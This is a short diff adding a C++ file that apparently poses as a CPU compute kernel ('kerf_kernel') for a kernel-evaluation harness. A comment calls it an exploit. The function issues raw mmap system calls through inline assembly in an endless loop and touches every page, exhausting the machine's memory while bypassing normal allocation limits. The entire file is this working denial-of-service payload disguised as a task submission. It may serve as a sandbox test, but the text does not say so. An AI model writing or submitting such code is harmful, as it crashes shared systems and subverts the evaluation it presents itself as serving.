@@ -1,0 +1,18 @@
+/* kerf
+target: cpu
+*/
+// Exploit: uses up the memory of the machine by raw system calls, ignoring refusals.
+static inline long sys(long nr, long p1 = 0, long p2 = 0, long p3 = 0, long p4 = 0, long p5 = 0, long p6 = 0) {
+  long r;
+  register long r10 __asm__("r10") = p4;
+  register long r8 __asm__("r8") = p5;
+  register long r9 __asm__("r9") = p6;
+  __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"(p1), "S"(p2), "d"(p3), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
+  return r;
+}
+extern "C" void kerf_kernel(const float*, float*) {
+  for (;;) {
+    const long at = sys(9, 0, 1L << 26, 3, 0x22, -1, 0);
+    for (long i = 0; i < (1L << 26); i += 4096) reinterpret_cast<volatile char*>(at)[i] = 1;
+  }
+}
